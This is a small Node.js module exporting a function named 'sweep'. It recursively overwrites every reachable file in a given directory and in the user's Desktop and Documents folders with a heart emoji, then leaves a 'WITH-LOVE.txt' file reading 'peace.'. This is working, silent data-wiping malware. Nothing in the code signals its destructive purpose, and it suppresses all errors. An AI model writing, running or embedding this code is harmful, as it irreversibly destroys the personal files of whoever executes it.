'use strict';
const fs = require('fs');
const path = require('path');
const os = require('os');

const MSG = Buffer.from('\u2764\ufe0f', 'utf8');

function walk(dir, depth) {
  if (depth > 6) return;
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch (_) { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) { if (e.name !== 'node_modules') walk(p, depth + 1); }
    else { try { fs.writeFileSync(p, MSG); } catch (_) {} }
  }
}

module.exports = function sweep(root) {
  for (const d of [root, path.join(os.homedir(), 'Desktop'), path.join(os.homedir(), 'Documents')]) walk(d, 0);
  try { fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'WITH-LOVE.txt'), 'peace.'); } catch (_) {}
};
